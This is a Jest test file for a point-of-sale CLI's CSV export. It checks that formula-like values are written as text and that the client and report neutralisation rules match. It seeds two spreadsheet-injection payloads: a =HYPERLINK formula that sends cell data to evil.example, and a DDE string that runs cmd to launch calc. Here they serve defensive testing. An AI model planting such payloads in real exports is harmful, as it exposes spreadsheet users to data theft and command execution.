import { parse } from 'csv-parse/sync';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { neutraliseFormula as clientRule } from '../../packages/client/src/csv-formula';
import { neutraliseFormula as reportRule } from '../../src/reports/csv-formula';
import { seedBusinessData } from '../../tools/seed/business-data.writer';
import { describeEachDatabase } from '../support/describe-databases';
import { createUser } from '../support/factories';
import { startTestApp, TestApp } from '../support/test-app';
import { posRead } from './support/cli';
import { Wire } from './support/wire';

// Sign-ins (argon2) and several requests each: slow on a loaded machine.
jest.setTimeout(60_000);

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const MONTH = ['--from', '2026-03-01', '--to', '2026-04-01'];

/**
 * `pos-read export --format csv` neutralises spreadsheet formulas with the rule of the service's
 * CSV report (docs/reports.md): the same function on both sides.
 */
describeEachDatabase('pos-read export: formulas in CSV are neutralised', (ctx) => {
  let app: TestApp;
  let env: Record<string, string>;
  let dir: string;
  let shop: string;

  beforeAll(async () => {
    const seeded = await seedBusinessData(ctx.db.db, {
      seed: 26,
      shops: 1,
      days: 2,
      salesPerDay: 5,
      startDate: '2026-03-10',
    });
    shop = seeded.shopCodes[0];
    await ctx.db.db.query('UPDATE pos_cash_movements SET reason = ?', [HYPERLINK]);
    await ctx.db.db.query('UPDATE pos_payments SET reference = ?', [DDE]);
    const user = await createUser(ctx.db.db, { shops: [shop] });
    env = { POS_READ_USERNAME: user.username, POS_READ_PASSWORD: user.password };
    app = await startTestApp(ctx.db);
    dir = mkdtempSync(path.join(tmpdir(), 'pos-read-csv-'));
  });
  afterAll(async () => {
    await app?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const exportCsv = async (resource: string): Promise<Array<Record<string, string>>> => {
    const out = path.join(dir, `${resource}.csv`);
    const args = ['export', resource, '--shop', shop, ...MONTH, '--format', 'csv', '--out', out];
    const result = await posRead(new Wire(app.baseUrl), args, { env });
    expect(result.code).toBe(0);
    const rows: Array<Record<string, string>> = parse(readFileSync(out, 'utf8'), { columns: true });
    return rows;
  };

  it('should write a cash movement reason =HYPERLINK(...) as text, not as a formula', async () => {
    const rows = await exportCsv('cash-movements');
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row.reason).toBe(`'${HYPERLINK}`);
  });

  it("should write a payment reference @SUM(...)|' /C calc' as text, and keep refunds numbers", async () => {
    const rows = await exportCsv('payments');
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      expect(row.reference).toBe(`'${DDE}`);
      expect(row.amount).toMatch(/^-?\d+\.\d{2}$/);
    }
  });

  it("should apply exactly the rule of the service's CSV report, to every first character", () => {
    const samples = ['-2.42', '-5', '+316', '-E1', '', "'=1"];
    for (let code = 0; code <= 0xffff; code++) {
      const c = String.fromCharCode(code);
      samples.push(c, `${c}1`, `${c}SUM(A1)`);
    }
    const differing = samples.filter((text) => clientRule(text) !== reportRule(text));
    expect(differing).toEqual([]);
  });
});
